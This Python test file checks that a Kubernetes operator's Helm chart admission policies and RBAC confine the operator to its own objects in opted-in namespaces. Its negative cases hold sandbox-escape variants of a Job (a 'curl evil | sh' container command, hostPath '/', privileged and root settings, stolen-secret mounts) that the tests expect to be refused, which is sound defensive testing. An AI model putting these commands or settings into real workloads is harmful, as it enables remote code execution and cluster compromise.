"""What the chart promises a platform's security review, on the local cluster: after a default `helm install`
(cluster scope), server-side dry runs and real writes impersonating the operator's ServiceAccount, in namespaces
of this test (one opted in with the kubetune.io/managed label, one not) and in kube-system.

Each refusal names its rule; the operator's own children, built by children.py with the settings the chart's
Deployment gives it, are admitted."""
import contextlib
import json
import os
import secrets
import signal
import subprocess
import sys
from unittest import mock

import pytest

from kubetune.api import FineTuneJob
from kubetune.operator import children, promote_job, runs
from kubetune.operator.settings import OperatorSettings
from tests.api.cases import make_job
from tests.chart.conftest import CHART, ROOT
from tests.plugins.cluster import wait_for as poll

MANAGED = "kubetune.io/managed"


class Release:
    """A default install (cluster scope) under a unique name, so its policies bind only its own ServiceAccount."""

    def __init__(self, cluster):
        self.cluster = cluster
        self.name = f"kt{secrets.token_hex(3)}"
        self.system = f"{self.name}-system"
        self.account = f"{self.name}-kubetune-operator"
        self.user = f"system:serviceaccount:{self.system}:{self.account}"

    def helm(self, *args: str) -> subprocess.CompletedProcess:
        return subprocess.run([str(self.cluster.helm_path), *args, "--namespace", self.system,
                               f"--kubeconfig={self.cluster.kubeconfig}"], check=True, capture_output=True, text=True)

    def settings(self) -> OperatorSettings:
        """The operator's settings as the chart's Deployment sets them."""
        deployment = self.cluster.kubectl_json("get", "deployment", self.account, "-n", self.system)
        env = {e["name"]: e["value"] for e in deployment["spec"]["template"]["spec"]["containers"][0]["env"]
               if "value" in e}
        with mock.patch.dict(os.environ, env):  # parsed as the operator parses its environment
            return OperatorSettings()

    def as_operator(self, *args: str, input: str | None = None) -> subprocess.CompletedProcess:
        return self.cluster.kubectl(*args, f"--as={self.user}", input=input, check=False)


@pytest.fixture(scope="module")
def release(cluster):
    r = Release(cluster)
    cluster.kubectl("create", "namespace", r.system)
    try:
        # --take-ownership: other tests (or `kubectl apply -f crds/`) may have installed the CRD already.
        r.helm("install", r.name, str(CHART), "--take-ownership")
        names = [f"{r.name}-kubetune-operator-{kind}" for kind in ("children", "jobs", "services", "workloads",
                                                                   "trials")]

        def checked():  # the API server type-checked every policy's CEL
            policies = [cluster.kubectl_json("get", "validatingadmissionpolicy", n) for n in names]
            return all(p.get("status", {}).get("observedGeneration") == p["metadata"]["generation"]
                       for p in policies) and policies
        for policy in poll("the policies' type checking", checked):
            assert not policy["status"].get("typeChecking", {}).get("expressionWarnings"), policy["status"]
        yield r
    finally:
        subprocess.run([str(cluster.helm_path), "uninstall", r.name, "--namespace", r.system, "--ignore-not-found",
                        f"--kubeconfig={cluster.kubeconfig}"], capture_output=True)
        cluster.kubectl("delete", "namespace", r.system, "--wait=false", check=False)


@pytest.fixture
def opted_in(cluster, namespace) -> str:
    cluster.kubectl("label", "namespace", namespace, f"{MANAGED}=true")
    return namespace


@pytest.fixture
def not_opted_in(cluster) -> str:
    name = f"not-opted-in-{secrets.token_hex(3)}"
    cluster.kubectl("create", "namespace", name)
    yield name
    cluster.kubectl("delete", "namespace", name, "--wait=false", check=False)


def finetunejob(cluster, namespace: str, spec: dict | None = None) -> FineTuneJob:
    doc = make_job({"spec": spec or {}}, name=f"chat-{secrets.token_hex(2)}")
    doc["metadata"]["namespace"] = namespace
    created = json.loads(cluster.kubectl("create", "-o", "json", "-f", "-", input=json.dumps(doc)).stdout)
    return FineTuneJob.model_validate(created)


def built(job: FineTuneJob, settings: OperatorSettings) -> dict[str, dict]:
    """The children the operator builds for `job`, by kind, as it would create them."""
    run = runs.current_run(job)
    return {o["kind"]: o for o in [*children.build_dependents(job, run, settings),
                                   children.build_job(job, run, settings)]}


def moved(obj: dict, namespace: str) -> dict:
    copy = json.loads(json.dumps(obj))
    copy["metadata"]["namespace"] = namespace
    return copy


def refused_by(result: subprocess.CompletedProcess, rule: str) -> bool:
    return result.returncode != 0 and "ValidatingAdmissionPolicy" in result.stderr and f"rule {rule}:" in result.stderr


@pytest.mark.cluster
def test_the_operator_writes_only_what_it_builds_where_namespaces_opted_in(cluster, release, opted_in,
                                                                           not_opted_in):
    settings = release.settings()
    job = finetunejob(cluster, opted_in, {"nodes": 2, "resources": {"gpusPerNode": 1},
                                          "hyperparameters": {"batchSize": 8, "microBatchSize": 4},
                                          "storage": {"secretRef": {"name": "s3-credentials"}}})
    own = built(job, settings)
    create = lambda obj: release.as_operator("create", "--dry-run=server", "-f", "-",  # noqa: E731
                                             input=json.dumps(obj))
    # Policies load asynchronously: wait until the operator's Job in a namespace that did not opt in is refused.
    poll("the policies to be in force", lambda: refused_by(create(moved(own["Job"], not_opted_in)),
                                                            "opted-in-namespace"))

    # Its own children, as built with the chart's settings: admitted.
    for kind, obj in own.items():
        admitted = create(obj)
        assert admitted.returncode == 0, (kind, admitted.stderr)

    # The same children anywhere else: refused, naming the rule.
    for namespace in (not_opted_in, "kube-system"):
        for kind, obj in own.items():
            assert refused_by(create(moved(obj, namespace)), "opted-in-namespace"), (kind, namespace)

    # A Job that merely carries kubetune's labels: each way out of the sandbox is refused by its rule.
    def variant(change) -> dict:
        copy = json.loads(json.dumps(own["Job"]))
        change(copy["spec"]["template"]["spec"], copy)
        return copy

    def root(pod, _):
        pod["securityContext"].update(runAsNonRoot=False, runAsUser=0)

    def host_port(pod, _):
        pod["containers"][0]["ports"][0]["hostPort"] = 9400

    def secret_volume(pod, _):
        pod["volumes"].append({"name": "creds", "secret": {"secretName": "cloud-admin"}})
        pod["containers"][0]["volumeMounts"].append({"name": "creds", "mountPath": "/creds"})

    def token(pod, _):
        pod["volumes"].append({"name": "token", "projected": {"sources": [
            {"serviceAccountToken": {"path": "token", "audience": "sts.amazonaws.com"}}]}})

    def default_account(pod, _):
        del pod["serviceAccountName"]

    def env_from(pod, _):
        pod["containers"][0]["envFrom"] = [{"secretRef": {"name": "cloud-admin"}}]

    def other_secret_key(pod, _):
        pod["containers"][0]["env"].append({"name": "GITHUB_TOKEN", "valueFrom": {"secretKeyRef": {
            "name": "ci", "key": "token"}}})

    def another_secrets_key(pod, _):  # the run's S3 keys come from one Secret
        (secret_key,) = [e for e in pod["containers"][0]["env"] if e["name"] == "AWS_SECRET_ACCESS_KEY"]
        secret_key["valueFrom"]["secretKeyRef"]["name"] = "cluster-admin-keys"

    def image(_, obj):
        obj["spec"]["template"]["spec"]["containers"][0]["image"] = "docker.io/library/busybox:1.36"

    def shell(pod, _):
        pod["containers"][0]["command"] = ["sh", "-c", "curl evil | sh"]

    def unconfined(pod, _):
        pod["securityContext"]["seccompProfile"] = {"type": "Unconfined"}

    def selinux(pod, _):
        pod["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}

    def node_name(pod, _):
        pod["nodeName"] = "control-plane"

    def host_path(pod, _):
        pod["volumes"].append({"name": "host", "hostPath": {"path": "/"}})

    def privileged(pod, _):
        pod["containers"][0]["securityContext"].update(privileged=True, allowPrivilegeEscalation=True)

    cases = [(root, "non-root"), (host_port, "no-host-access"), (secret_volume, "trainer-volumes"),
             (token, "no-service-account-token"), (default_account, "trainer-service-account"),
             (env_from, "secret-references"), (other_secret_key, "secret-references"),
             (another_secrets_key, "secret-references"), (image, "allowed-images"),
             (shell, "trainer-command"), (unconfined, "runtime-default-seccomp"), (selinux, "no-selinux-options"),
             (node_name, "no-host-access"), (host_path, "trainer-volumes"), (privileged, "unprivileged")]
    for change, rule in cases:
        result = create(variant(change))
        assert refused_by(result, rule), (change.__name__, result.stderr)

    def everything(pod, obj):
        for change, _ in cases[:4]:
            change(pod, obj)
    for namespace in (opted_in, not_opted_in, "kube-system"):
        assert create(moved(variant(everything), namespace)).returncode != 0, namespace

    # Services: only the headless rendezvous Service selecting its own Job's pods.
    service = own["Service"]
    for what, change in [("LoadBalancer", {"type": "LoadBalancer", "clusterIP": None}),
                         ("NodePort", {"type": "NodePort", "clusterIP": None}),
                         ("externalIPs", {"externalIPs": ["203.0.113.7"]}),
                         ("another selector", {"selector": {"app": "database"}})]:
        bad = json.loads(json.dumps(service))
        bad["spec"].update(change)
        bad["spec"] = {k: v for k, v in bad["spec"].items() if v is not None}
        assert refused_by(create(bad), "headless-service"), what

    # Unlabelled ConfigMaps are not the operator's to write.
    stray = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "stray", "namespace": opted_in,
                                                                    "ownerReferences": own["ConfigMap"]["metadata"]
                                                                    ["ownerReferences"]}, "data": {"a": "b"}}
    assert refused_by(create(stray), "kubetune-labels")


@pytest.mark.cluster
def test_the_promotion_job_is_admitted_and_its_command_is_the_only_one_added(cluster, release, opted_in):
    """The promotion Job (promote_job.py) passes every rule of the trainer Jobs' policy as built with the chart's
    settings; the policy admits its one command and nothing near it."""
    job = finetunejob(cluster, opted_in, {
        "dataset": {"test": "s3://data/test.jsonl"}, "evaluation": {"baseline": True},
        "storage": {"secretRef": {"name": "s3-credentials"}}, "scheduling": {"queueName": "team-a"},
        "promotion": {"destination": "s3://models/models/bot/", "override": {
            "action": "promote", "runId": "g1-0f1e2d3c", "requestedBy": "ann@example.com", "reason": "better"}}})
    body = promote_job.build(job, runs.current_run(job), release.settings())
    create = lambda obj: release.as_operator("create", "--dry-run=server", "-f", "-",  # noqa: E731
                                             input=json.dumps(obj))
    poll("the policies to be in force", lambda: refused_by(create(moved(body, "kube-system")), "opted-in-namespace"))
    admitted = create(body)
    assert admitted.returncode == 0, admitted.stderr
    for command in (["python", "-m", "kubetune.trainer.promote", "--anything"], ["python", "-m", "kubetune.cli"],
                    ["python", "-c", "import os"], ["kubetune-train", "promote"]):
        bad = json.loads(json.dumps(body))
        bad["spec"]["template"]["spec"]["containers"][0]["command"] = command
        assert refused_by(create(bad), "trainer-command"), command


@pytest.mark.cluster
def test_the_operator_deletes_only_its_own_objects(cluster, release, opted_in):
    settings = release.settings()
    job = finetunejob(cluster, opted_in)
    config_map = built(job, settings)["ConfigMap"]
    # A real create as the operator (the policies admit it), then its delete: admitted.
    poll("the policies to admit the operator's ConfigMap", lambda: release.as_operator(
        "create", "-f", "-", input=json.dumps(config_map)).returncode == 0)
    name = config_map["metadata"]["name"]
    deleted = release.as_operator("delete", "configmap", name, "-n", opted_in, "--dry-run=server")
    assert deleted.returncode == 0, deleted.stderr
    # A ConfigMap someone else created, even in an opted-in namespace, and kube-system's: refused.
    cluster.kubectl("create", "configmap", "team-settings", "-n", opted_in, "--from-literal=a=b")
    for namespace, other in [(opted_in, "team-settings"), (opted_in, "kube-root-ca.crt"),
                             ("kube-system", "kube-root-ca.crt")]:
        refused = release.as_operator("delete", "configmap", other, "-n", namespace, "--dry-run=server")
        assert refused.returncode != 0 and "ValidatingAdmissionPolicy" in refused.stderr, (namespace, other)
    assert "rule kubetune-labels:" in release.as_operator(
        "delete", "configmap", "team-settings", "-n", opted_in, "--dry-run=server").stderr
    # Patching someone's Job into a kubetune one (to delete it next) is refused as well.
    cluster.kubectl("create", "-f", "-", input=json.dumps({
        "apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "nightly", "namespace": opted_in},
        "spec": {"suspend": True, "template": {"spec": {"restartPolicy": "Never", "containers": [
            {"name": "c", "image": "busybox:1.36"}]}}}}))
    relabel = release.as_operator("label", "job", "nightly", "-n", opted_in, "--dry-run=server",
                                  "app.kubernetes.io/managed-by=kubetune", "app.kubernetes.io/name=kubetune-trainer",
                                  "kubetune.io/finetunejob=x")
    assert relabel.returncode != 0 and "ValidatingAdmissionPolicy" in relabel.stderr, relabel.stderr


@pytest.mark.cluster
def test_namespace_users_apply_and_read_finetunejobs_under_the_built_in_roles(cluster, release, namespace):
    cluster.kubectl("create", "rolebinding", "editor", "--clusterrole=edit", "--user=alice", "-n", namespace)
    cluster.kubectl("create", "rolebinding", "viewer", "--clusterrole=view", "--user=bob", "-n", namespace)
    as_user = lambda user, *args, input=None: cluster.kubectl(*args, "-n", namespace, f"--as={user}",  # noqa: E731
                                                              input=input, check=False)
    # The controller-manager aggregates the chart's rules into edit and view within moments.
    poll("edit to include FineTuneJobs", lambda: as_user("alice", "auth", "can-i", "create",
                                                         "finetunejobs.kubetune.io").stdout.strip() == "yes")
    job = make_job({}, name="chat")
    applied = as_user("alice", "apply", "-f", "-", input=json.dumps(job))
    assert applied.returncode == 0, applied.stderr
    poll("view to include FineTuneJobs", lambda: as_user("bob", "get", "finetunejobs", "-o", "name").stdout.strip()
         == "finetunejob.kubetune.io/chat")
    # Status is the operator's; viewers change nothing.
    assert as_user("alice", "auth", "can-i", "patch", "finetunejobs.kubetune.io",
                   "--subresource=status").stdout.strip() == "no"
    assert as_user("bob", "delete", "finetunejob", "chat").returncode != 0


@contextlib.contextmanager
def release_operator(cluster, release, namespaces: list[str], tmp_path):
    """The real operator, as the release's ServiceAccount with its cluster-scope RBAC, policies in force and the
    Deployment's settings, watching only `namespaces` (the cluster is shared)."""
    from tests.chart.test_chart_operator import free_port, token_kubeconfig

    deployment = cluster.kubectl_json("get", "deployment", release.account, "-n", release.system)
    env = {e["name"]: e["value"] for e in deployment["spec"]["template"]["spec"]["containers"][0]["env"]
           if "value" in e}
    env.update(KUBETUNE_OPERATOR_NAMESPACES=",".join(namespaces), KUBETUNE_OPERATOR_IDENTITY="test",
               KUBETUNE_OPERATOR_LEASE_NAMESPACE=release.system,
               KUBETUNE_OPERATOR_LEASE_NAME=f"{release.account}-{secrets.token_hex(2)}",
               KUBETUNE_OPERATOR_POD_ANNOTATION_PREFIXES="kwok.kubetune.io/",
               KUBETUNE_OPERATOR_METRICS_PORT=str(free_port()), KUBETUNE_OPERATOR_HEALTH_PORT=str(free_port()),
               KUBETUNE_OPERATOR_PROGRESS_INTERVAL_SECONDS="1")
    kubeconfig = tmp_path / "operator.kubeconfig"
    token_kubeconfig(cluster, release.system, release.account, kubeconfig)
    log = tmp_path / "operator.log"
    proc = subprocess.Popen([sys.executable, "-m", "kubetune.operator"], cwd=ROOT,
                            env={**os.environ, **env, "KUBECONFIG": str(kubeconfig)},
                            stdout=log.open("w"), stderr=subprocess.STDOUT)
    try:
        yield log
    finally:
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(20)
        except subprocess.TimeoutExpired:
            proc.kill()


def kwok_job(name: str, spec: dict, seconds: float = 1) -> dict:
    from tests.chart.test_chart_operator import SUMMARY

    job = make_job({"spec": spec}, name=name)
    job["metadata"]["annotations"] = {"kwok.kubetune.io/run-seconds": str(seconds),
                                      "kwok.kubetune.io/termination-message": json.dumps(SUMMARY)}
    return job


@pytest.mark.cluster
def test_default_install_runs_a_finetunejob_under_the_annotated_trainer_account(cluster, release, opted_in,
                                                                             not_opted_in, tmp_path):
    role = "arn:aws:iam::111122223333:role/kubetune-trainer"
    # Opting in (docs/install.md): the label (fixture), and the trainer ServiceAccount annotated for IRSA.
    cluster.kubectl("create", "serviceaccount", "kubetune-trainer", "-n", opted_in)
    cluster.kubectl("annotate", "serviceaccount", "kubetune-trainer", "-n", opted_in,
                    f"eks.amazonaws.com/role-arn={role}")
    with release_operator(cluster, release, [opted_in, not_opted_in], tmp_path) as log:
        for namespace in (opted_in, not_opted_in):
            cluster.kubectl("apply", "-n", namespace, "-f", "-",
                            input=json.dumps(kwok_job("chat", {"resources": {"gpusPerNode": 1}})))
        waited = cluster.kubectl("wait", "--for=condition=Succeeded", "ftj/chat", "-n", opted_in, "--timeout=90s",
                                 check=False)
        assert waited.returncode == 0, log.read_text()[-4000:]
        (pod,) = cluster.kubectl_json("get", "pods", "-n", opted_in, "-l", "kubetune.io/finetunejob=chat")["items"]
        account = cluster.kubectl_json("get", "serviceaccount", pod["spec"]["serviceAccountName"], "-n", opted_in)
        assert account["metadata"]["annotations"]["eks.amazonaws.com/role-arn"] == role

        # Where the namespace did not opt in, the status says which rule refused the run.
        def refused():
            status = cluster.kubectl_json("get", "ftj", "chat", "-n", not_opted_in).get("status") or {}
            return [c for c in status.get("conditions", []) if "rule opted-in-namespace" in c.get("message", "")]
        poll("the refusal in the status", refused, timeout=30)
        assert cluster.kubectl_json("get", "jobs,configmaps", "-n", not_opted_in, "-l",
                                    "kubetune.io/finetunejob")["items"] == []


@pytest.mark.cluster
def test_a_queued_job_kueue_admitted_is_still_the_operators_to_patch(cluster, release, opted_in, tmp_path):
    """Kueue mutates the Jobs it admits (unsuspends them, adds its flavor's node selector): the operator's later
    patches of such a Job (here an in-place spec edit) still pass the policies."""
    from tests.operator.test_kueue_cluster import CLUSTER_QUEUE, MANAGED_LABEL

    if cluster.kubectl("get", "clusterqueue", CLUSTER_QUEUE, check=False).returncode != 0:
        pytest.skip("no Kueue ClusterQueue: hack/cluster up with KUBETUNE_KUEUE=0")
    cluster.kubectl("label", "namespace", opted_in, f"{MANAGED_LABEL}=true")
    cluster.kubectl("create", "serviceaccount", "kubetune-trainer", "-n", opted_in)
    cluster.kubectl("apply", "-f", "-", input=json.dumps({
        "apiVersion": "kueue.x-k8s.io/v1beta2", "kind": "LocalQueue",
        "metadata": {"name": "team-a", "namespace": opted_in}, "spec": {"clusterQueue": CLUSTER_QUEUE}}))
    with release_operator(cluster, release, [opted_in], tmp_path) as log:
        try:
            cluster.kubectl("apply", "-n", opted_in, "-f", "-", input=json.dumps(kwok_job(
                "queued", {"resources": {"gpusPerNode": 1}, "scheduling": {"queueName": "team-a"}}, seconds=30)))
            poll("the run to be admitted and running", lambda: (cluster.kubectl_json(
                "get", "ftj", "queued", "-n", opted_in).get("status") or {}).get("phase") == "Running", timeout=60)
            cluster.kubectl("patch", "ftj", "queued", "-n", opted_in, "--type=merge",
                            "-p", '{"spec": {"runPolicy": {"activeDeadlineSeconds": 7200}}}')
            job_name = cluster.kubectl_json("get", "ftj", "queued", "-n", opted_in)["status"]["jobName"]
            poll("the operator's patch of the admitted Job", lambda: cluster.kubectl_json(
                "get", "job", job_name, "-n", opted_in)["spec"].get("activeDeadlineSeconds") == 7200, timeout=30)
            # spec.suspend of a queued run deactivates its Workload: the operator's one Workload write.
            cluster.kubectl("patch", "ftj", "queued", "-n", opted_in, "--type=merge",
                            "-p", '{"spec": {"suspend": true}}')
            poll("the operator to deactivate the Workload", lambda: [w for w in cluster.kubectl_json(
                "get", "workloads", "-n", opted_in)["items"] if w["spec"].get("active") is False], timeout=30)
            assert "rule " not in log.read_text(), log.read_text()[-3000:]
        finally:  # its Workload must not hold the shared ClusterQueue's quota
            cluster.kubectl("delete", "ftj", "--all", "-n", opted_in, "--timeout=60s", check=False)


@pytest.mark.cluster
def test_the_operator_changes_only_the_activation_of_workloads_in_opted_in_namespaces(cluster, release, opted_in,
                                                                                     tmp_path):
    if cluster.kubectl("get", "crd", "workloads.kueue.x-k8s.io", check=False).returncode != 0:
        pytest.skip("no Kueue on this cluster")
    # A Workload as Kueue makes one for a Job (owned by it: the garbage collector removes one whose owner is
    # missing), written by the admin (Kueue's part here).
    job = json.loads(cluster.kubectl("create", "-o", "json", "-f", "-", input=json.dumps({
        "apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "chat-g1", "namespace": opted_in},
        "spec": {"suspend": True, "template": {"spec": {"restartPolicy": "Never", "containers": [
            {"name": "c", "image": "busybox:1.36"}]}}}})).stdout)
    owner = {"apiVersion": "batch/v1", "kind": "Job", "name": "chat-g1", "uid": job["metadata"]["uid"],
             "controller": True}
    workload = {"apiVersion": "kueue.x-k8s.io/v1beta2", "kind": "Workload", "metadata": {
        "name": "job-chat-g1", "namespace": opted_in, "ownerReferences": [owner]}, "spec": {
        "queueName": "team-a", "podSets": [{"name": "main", "count": 1, "template": {"spec": {
            "restartPolicy": "Never", "containers": [{"name": "trainer", "image": "trainer:1"}]}}}]}}
    cluster.kubectl("create", "-f", "-", input=json.dumps(workload))
    # The operator's one call on Workloads, a merge patch (it may not get them: kubectl patch would), dry run.
    import kubernetes
    from tests.chart.test_chart_operator import token_kubeconfig
    token_kubeconfig(cluster, release.system, release.account, tmp_path / "operator.kubeconfig")
    api = kubernetes.client.CustomObjectsApi(kubernetes.config.new_client_from_config(
        config_file=str(tmp_path / "operator.kubeconfig")))

    def patch(body: dict) -> str:
        """"" when admitted, else the refusal."""
        try:
            api.patch_namespaced_custom_object("kueue.x-k8s.io", "v1beta2", opted_in, "workloads", "job-chat-g1",
                                               body, dry_run="All", _content_type="application/merge-patch+json")
            return ""
        except kubernetes.client.ApiException as refused:
            return refused.body or str(refused.status)
    poll("the policy on Workloads", lambda: "rule workload-activation:" in patch({"spec": {"queueName": "x"}}))
    assert patch({"spec": {"active": False}}) == ""
    cluster.kubectl("label", "namespace", opted_in, f"{MANAGED}-")  # opted out again
    poll("the namespace's opt-out to refuse", lambda: "rule workload-activation:" in patch({"spec": {"active": False}}))


@pytest.mark.cluster
def test_default_install_runs_a_sweep_in_an_opted_in_namespace(cluster, release, opted_in, tmp_path):
    """The chart's RBAC lets the operator create a sweep's trial FineTuneJobs and write the sweep's status, and its
    admission policies (which match Jobs, ConfigMaps, Services and Workloads, not FineTuneJobs) admit the trials
    and then the trials' own Jobs."""
    from kubetune.testing import sweep_manifest

    cluster.kubectl("create", "serviceaccount", "kubetune-trainer", "-n", opted_in)  # opting in (docs/install.md)
    template = kwok_job("unused", {"resources": {"gpusPerNode": 1}})
    sweep = sweep_manifest({"spec": {"maxTrials": 2, "template": {
        "metadata": {"annotations": template["metadata"]["annotations"]}, "spec": template["spec"]}}}, name="lr")
    with release_operator(cluster, release, [opted_in], tmp_path) as log:
        cluster.kubectl("apply", "-n", opted_in, "-f", "-", input=json.dumps(sweep))
        waited = cluster.kubectl("wait", "--for=condition=Succeeded", "fts/lr", "-n", opted_in, "--timeout=90s",
                                 check=False)
        assert waited.returncode == 0, log.read_text()[-4000:]
    trials = cluster.kubectl_json("get", "ftj", "-n", opted_in, "-l", "kubetune.io/finetunesweep=lr")["items"]
    assert sorted(t["metadata"]["name"] for t in trials) == ["lr-t0", "lr-t1"]
    assert all(t["status"]["phase"] == "Succeeded" for t in trials)
    assert {j["metadata"]["name"] for j in cluster.kubectl_json("get", "jobs", "-n", opted_in)["items"]} == {
        "lr-t0-g1", "lr-t1-g1"}


@pytest.mark.cluster
def test_the_operator_creates_and_suspends_only_sweep_trials(cluster, release, opted_in, not_opted_in):
    """RBAC grants the operator create and patch on every FineTuneJob (sweeps need them); the trials policy narrows
    that to a sweep's trials (labelled, controlled by the FineTuneSweep named in the label), and a trial's patch
    to spec.suspend. A user's FineTuneJob: its spec is refused, its status (a subresource) is still written."""
    from kubetune.api.sweep import FineTuneSweep
    from kubetune.operator.sweep_plan import trial_manifest
    from kubetune.testing import sweep_manifest

    created = json.loads(cluster.kubectl("create", "-n", opted_in, "-o", "json", "-f", "-",
                                         input=json.dumps(sweep_manifest(name="lr"))).stdout)
    trial, problem = trial_manifest(FineTuneSweep.model_validate(created), 0,
                                    {"hyperparameters.learningRate": 1e-4, "method.lora.r": 8})
    assert problem is None
    as_operator = release.as_operator

    def patch(kind_name: str, body: dict, *extra: str) -> subprocess.CompletedProcess:
        return as_operator("patch", kind_name, "-n", opted_in, "--type=merge", "-p", json.dumps(body), *extra)

    # Policies load asynchronously: wait until a FineTuneJob that is no trial is refused.
    user = finetunejob(cluster, opted_in)
    stray = json.loads(json.dumps(trial))
    stray["metadata"].update(name="stray", labels={}, ownerReferences=[])
    poll("the trials policy to be in force", lambda: refused_by(
        as_operator("create", "--dry-run=server", "-f", "-", input=json.dumps(stray)), "sweep-trial"))

    # The trial, as the planner builds it: created for real, then pruned (spec.suspend + the annotation).
    made = as_operator("create", "-f", "-", input=json.dumps(trial))
    assert made.returncode == 0, made.stderr
    pruned = patch("ftj/lr-t0", {"metadata": {"annotations": {"kubetune.io/pruned": "true"}},
                                 "spec": {"suspend": True}})
    assert pruned.returncode == 0, pruned.stderr
    assert cluster.kubectl_json("get", "ftj", "lr-t0", "-n", opted_in)["spec"]["suspend"] is True

    # Anything else on a trial's spec, or its labels and owner: refused.
    assert refused_by(patch("ftj/lr-t0", {"spec": {"hyperparameters": {"learningRate": 0.1}}}),
                      "trial-suspend-only")
    assert refused_by(patch("ftj/lr-t0", {"spec": {"suspend": False, "rerunToken": "again"}}), "trial-suspend-only")
    assert refused_by(patch("ftj/lr-t0", {"metadata": {"labels": {"kubetune.io/finetunesweep": None}}}),
                      "sweep-trial")
    assert refused_by(patch("ftj/lr-t0", {"metadata": {"ownerReferences": []}}), "sweep-trial")

    # A user's FineTuneJob: its spec (suspend included) and a relabelling into a trial are refused...
    name = f"ftj/{user.metadata.name}"
    assert refused_by(patch(name, {"spec": {"suspend": True}}), "sweep-trial")
    assert refused_by(patch(name, {"metadata": {"labels": {"kubetune.io/finetunesweep": "lr",
                                                           "kubetune.io/trial": "7"}}}), "sweep-trial")
    # ... its status is still the operator's to write (a merge patch as the operator makes it; kubectl would GET
    # the status first, which its RBAC does not grant).
    import kubernetes

    client = cluster.api_client()
    client.set_default_header("Impersonate-User", release.user)
    written = kubernetes.client.CustomObjectsApi(client).patch_namespaced_custom_object_status(
        "kubetune.io", "v1alpha1", opted_in, "finetunejobs", user.metadata.name, {"status": {"phase": "Pending"}},
        dry_run="All")
    assert written["metadata"]["name"] == user.metadata.name

    # Trials labelled for one sweep but controlled by another, or by none, and trials elsewhere: refused.
    other = json.loads(json.dumps(trial))
    other["metadata"].update(name="lr-t1")
    other["metadata"]["ownerReferences"][0]["name"] = "another-sweep"
    assert refused_by(as_operator("create", "--dry-run=server", "-f", "-", input=json.dumps(other)), "sweep-trial")
    assert refused_by(as_operator("create", "--dry-run=server", "-f", "-", input=json.dumps(moved(
        {**trial, "metadata": {**trial["metadata"], "name": "lr-t2"}}, not_opted_in))), "opted-in-namespace")
    # Deleting a FineTuneJob is not the operator's (RBAC refuses it before the policy would).
    assert as_operator("delete", "ftj", "lr-t0", "-n", opted_in, "--dry-run=server").returncode != 0
